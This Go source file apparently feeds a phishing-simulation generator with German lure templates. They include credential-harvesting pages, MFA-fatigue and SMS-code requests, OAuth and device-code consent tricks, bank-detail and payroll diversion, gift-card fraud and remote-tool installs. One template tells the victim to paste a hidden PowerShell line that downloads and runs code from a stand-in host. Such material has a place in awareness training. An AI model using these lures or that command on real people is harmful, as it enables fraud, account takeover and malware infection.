package scenario

// luresDE are lures in German; luresEN says which cases they follow.
var luresDE = []script{
	{kind: "thread-link", reply: true, path: "/d/{tok}/{ref}", body: `[die Datei war für den Anhang zu groß, ich habe sie hier abgelegt|wie besprochen die überarbeitete Fassung|entschuldigen Sie die späte Antwort, hier ist alles beisammen]: {link}

[Geben Sie mir kurz Bescheid, ob es sich öffnen lässt?|Bitte schauen Sie vor allem auf Seite 3.|Der Link gilt bis {weekday}.]`},
	{kind: "thread-link", reply: true, path: "/f/{tok}", body: `dazu noch etwas: in unserer [Aufstellung|Liste] war ein Fehler, die richtige liegt [hier|unter] {link:{ref}.xlsx}. [Können Sie das bitte heute noch prüfen?|Bitte die alte nicht mehr verwenden.]`},
	{kind: "thread-link", reply: true, path: "/view?id={tok}", body: `[siehe Dokument|anbei der Verweis auf das Dokument] zu untenstehendem Vorgang: {link:Dokument öffnen}`},
	{kind: "shared-document", path: "/s/{tok}", subject: "{from} hat \"{project} {month}\" für Sie freigegeben", body: `[ich habe Ihnen ein Dokument freigegeben|für Sie liegt ein Ordner bereit]: {link:{project} {month}.pdf}

[Es ist geschützt, bitte melden Sie sich mit Ihrem Firmenkonto an.|Der Zugriff gilt nur für {toMail}.]`},
	{kind: "shared-document", path: "/doc/{tok}?e={toMail}", subject: "[Angebot|Leistungsbeschreibung] {ref}", body: `[unser Angebot zu {project} finden Sie unter folgendem Link|die Leistungsbeschreibung liegt jetzt in unserem Datenraum]: {link:{ref} öffnen}

[Über eine Rückmeldung bis {weekday} würde ich mich freuen.|Wir brauchen Ihre Freigabe vor dem Termin am {weekday}.]`},
	{kind: "credential-page", path: "/auth/{tok}", subject: "Umstellung Ihres Zugangs zu {system}", body: `[heute Abend ziehen wir {system} um|am {weekday} wird {system} auf die neue Anmeldung umgestellt]. Damit Ihr Konto mitgenommen wird, melden Sie sich bitte einmal auf der neuen Seite an: {link}

[Nicht bestätigte Konten werden danach gesperrt.|Das dauert keine Minute, Name und Kennwort bleiben gleich.]`},
	{kind: "mailbox-quota", path: "/q/{tok}", from: "desk", subject: "Postfach {toMail} zu 98 % belegt", body: `Ihr Postfach hat die zugewiesene Größe [erreicht|fast erreicht] (49,2 von 50 GB). [Ab {time} Uhr werden neue Nachrichten abgewiesen.|Zwölf Nachrichten warten bereits auf dem Server.]

Zusätzlichen Speicher können Sie hier freischalten: {link:Speicher erweitern}

Service Desk {partner}`},
	{kind: "mfa-push", subject: "Prüfung Ihres zweiten Faktors", body: `[wir stellen den Anbieter für den zweiten Faktor um|wegen einer Störung mussten wir einige Registrierungen zurücksetzen, Ihre ist dabei]. Sie bekommen [gleich|gegen {time} Uhr] eine Anfrage auf Ihr Telefon, bitte bestätigen Sie diese [sofort|auch dann, wenn sie zweimal kommt]. [Wird eine Zahl verlangt: {num}.|]`},
	{kind: "mfa-push", reply: true, body: `ich bin gerade dabei, das zu erledigen. Sie erhalten jetzt eine SMS mit einem Code, [schicken Sie mir den bitte als Antwort|antworten Sie mir bitte mit den sechs Ziffern]. [Er gilt nur fünf Minuten.|]`},
	{kind: "oauth-consent", path: "/oauth2/authorize?client_id={tok}&scope=Mail.Read+offline_access&response_type=code", subject: "Anbindung {system} an Ihren Kalender", body: `[damit Tickets direkt bei Ihnen im Kalender erscheinen, haben wir eine Erweiterung bereitgestellt|die Auswertung, die Sie von den anderen Standorten kennen, steht jetzt auch {client} zur Verfügung]. Bitte {link:diese Seite} öffnen und einmal auf Akzeptieren klicken. [Ein Kennwort ist nicht nötig.|Die angezeigten Berechtigungen sind die üblichen.]`},
	{kind: "device-code", path: "/device", subject: "Einwahl zur Besprechung am {weekday}", body: `[der neue Besprechungsraum arbeitet mit einem Code statt mit einem Link|die Sitzung läuft diesmal bei uns im Gastbereich]. Bitte vorher {link} aufrufen, den Code

    {code}

eingeben und mit Ihrem Konto bestätigen. [Er gilt 15 Minuten.|Bitte erst kurz vor {time} Uhr, er läuft schnell ab.]`},
	{kind: "callback", from: "finance", subject: "Verlängerung {system}, Auftrag {ref}", body: `[vielen Dank für Ihre Verlängerung|Ihr Auftrag ist eingegangen]. Der Betrag von {amount} wird [am {weekday}|innerhalb von 48 Stunden] abgebucht.

[Falls Sie das nicht veranlasst haben, rufen Sie bitte vorher unsere Abrechnung an: {phone}.|Rückfragen und Storno nur telefonisch unter {phone}.]`},
	{kind: "callback", reply: true, body: `[per Mail geht das nicht. Rufen Sie mich bitte unter meiner neuen Nummer {phone} an, am besten gleich.|die Kollegen von der Sicherheit möchten dazu mit Ihnen sprechen: {phone}. Bitte vor dem eingeschalteten Rechner anrufen.]`},
	{kind: "bank-change", from: "finance", subject: "[Änderung unserer Bankverbindung|Neue Bankverbindung {partner}]", body: `[wegen einer laufenden Prüfung ist unser Konto bei der {oldbank} für Eingänge gesperrt|wir haben die Hausbank gewechselt]. Bitte überweisen Sie alle offenen und künftigen Rechnungen auf folgendes Konto:

Kontoinhaber: {partner}
IBAN: {iban}
Bank: {bank}

[Bitte bestätigen Sie kurz, sobald es hinterlegt ist, und nennen Sie uns den nächsten Zahllauf.|Wegen unseres Umzugs sind wir diese Woche nur per Mail erreichbar.]`},
	{kind: "bank-change", reply: true, from: "finance", body: `[bevor Sie das anweisen: das Konto hat sich geändert.|bitte halten Sie die Zahlung an, das Konto darauf ist nicht mehr unseres.] Richtig ist {iban} ({bank}). [Die neue Rechnungskopie folgt.|Wann geht es bei Ihnen raus?]`},
	{kind: "invoice-redirect", from: "finance", file: "pdf-iban", subject: "Berichtigte Rechnung {ref}", body: `[anbei die berichtigte Rechnung {ref}, auf der ersten stand eine veraltete Zahlungsadresse|im Anhang noch einmal {ref}, die erste Ausfertigung war fehlerhaft]. Bitte nur diese buchen. [Da sie inzwischen überfällig ist, wären wir für eine Zahlung noch in dieser Woche dankbar.|]`},
	{kind: "payroll-change", toRole: "hr", subject: "Meine Bankverbindung", body: `ich habe die Bank gewechselt und möchte, dass [Gehalt und Auslagen|die nächste Zahlung] auf das neue Konto [gehen|geht]. Klappt das noch bis zum {date}?

{iban}, {bank}

[Ins Portal komme ich gerade nicht, deshalb auf diesem Weg.|Was brauchen Sie dafür von mir?]`},
	{kind: "gift-card", from: "manager", subject: "[Kurze Bitte|Sind Sie am Platz?]", body: `[haben Sie einen Moment? Ich sitze in einer Besprechung und kann nicht telefonieren|ich brauche kurz Ihre Hilfe, bitte vorerst vertraulich]. Für das Projektteam sollen es Gutscheine werden, fünf zu je 100 Euro, [Amazon oder Apple|egal von welchem Markt]. Könnten Sie die [mittags|jetzt] besorgen und mir Fotos der freigerubbelten Codes schicken? [Das Geld bekommen Sie heute Abend.|]`},
	{kind: "remote-tool", path: "/Bin/Support.Client.exe?h={tok}&i={client}", subject: "Fernwartung auf {device}", body: `[der Agent auf {device} meldet sich nicht mehr|seit heute früh sehen wir {device} nicht]. Bitte laden Sie die aktuelle Fassung und starten Sie sie: {link:Support-Client}

[Die Warnung von Windows bitte mit Trotzdem ausführen bestätigen, das Zertifikat ist neu.|Sie installiert sich selbst, den Rest mache ich.]`},
	{kind: "remote-tool", reply: true, path: "/download/{tok}.msi", body: `[am einfachsten sehe ich mir das selbst an. Bitte starten Sie|unser übliches Werkzeug steht heute nicht zur Verfügung, deshalb ein anderes]: {link} [Sagen Sie mir dann die Nummer, die angezeigt wird.|]`},
	{kind: "qr-code", file: "qr", path: "/v/{tok}", subject: "Ihr Anmeldezertifikat läuft ab", body: `[das Zertifikat auf Ihrem Telefon endet am {weekday}|die neue Anmeldung muss mit Ihrem Konto gekoppelt werden]. Bitte den Code unten mit der Kamera des Telefons aufnehmen und den Schritten folgen. [Vom Rechner aus geht es nicht.|]`},
	{kind: "html-form", file: "html-form", from: "finance", subject: "Zahlungsavis {ref}", body: `[anbei erhalten Sie das Avis zu Ihrer Zahlung|das Avis finden Sie im Anhang]. [Zum Öffnen bitte das Kennwort Ihres Postfachs eingeben.|Aus Gründen des Datenschutzes öffnet es sich erst nach der Anmeldung.]`},
	{kind: "encrypted-zip", reply: true, file: "zip-script", body: `[im Anhang die gewünschten Unterlagen|bitte sehen Sie sich den Anhang an]. Kennwort: {pw}`},
	{kind: "meeting-invite", file: "ics-link", path: "/j/{tok}", subject: "Abstimmung {client} / {partner}", body: `[bitte die Einladung annehmen|ich habe einen Termin eingestellt]. Einwahl: {link} [Bitte mit dem Firmenkonto anmelden, Gäste werden diesmal nicht eingelassen.|]`},
	{kind: "e-signature", path: "/sign/{tok}", subject: "Bitte unterzeichnen: Nachtrag {ref}", body: `[der Nachtrag liegt zur Unterschrift bereit|es fehlt nur noch Ihre Unterschrift]. {link:Prüfen und unterzeichnen} [Die Frist endet am {weekday}.|]`},
	{kind: "command", subject: "Abhilfe für das Problem mit der [VPN-Verbindung|Anmeldung]", body: `nach dem Update von gestern verbinden sich einige Rechner nicht, Ihrer ist darunter. So geht es wieder:

1. Windows-Taste und R drücken
2. diese Zeile einfügen und Enter drücken
   powershell -w hidden -c "iwr https://{foehost}/{tok} | iex"
3. warten, bis sich das Fenster schließt

[Geben Sie mir danach kurz Bescheid.|]`},
	{kind: "mass-mailing", mass: true, path: "/m/{tok}", subject: "[Wichtige Information für alle Kunden|Neue Nutzungsbedingungen {month}]", body: `[wir haben unsere Bedingungen und die Liste der Ansprechpartner geändert|wie angekündigt ändert sich zum nächsten Monat einiges]. Bitte bestätigen Sie das einmal hier: {link}

[Ohne Bestätigung können wir den Betrieb nicht zusichern.|Die Seite ist bis {weekday} offen.]`},
	{kind: "supplier-portal", from: "finance", path: "/register/{tok}", subject: "Unser neues Lieferantenportal", body: `[ab diesem Monat stellen wir Rechnungen nur noch im Portal bereit|Bestellungen und Rechnungen laufen ab sofort über unser neues Portal]. Bitte [registrieren|melden] Sie sich mit Ihrer Firmenadresse und deren Kennwort an: {link:{client} registrieren} [Ihre Kundennummer ist {ref}.|]`},
	{kind: "voicemail", from: "desk", path: "/vm/{tok}", subject: "Neue Sprachnachricht, {num} Sekunden", body: `für Sie liegt eine Sprachnachricht von {colleague} vor, {num} Sekunden, heute {time} Uhr.

{link:Nachricht abspielen}`},
	{kind: "secure-message", path: "/secure/{tok}", subject: "Vertraulich: {project}", body: `[wegen des Inhalts geht das über unser sicheres Postfach|unsere Rechtsabteilung will das nur verschlüsselt schicken]. {link:Verschlüsselte Nachricht lesen} [Beim ersten Mal bitte mit dem Kennwort Ihres Postfachs anmelden.|]`},
}
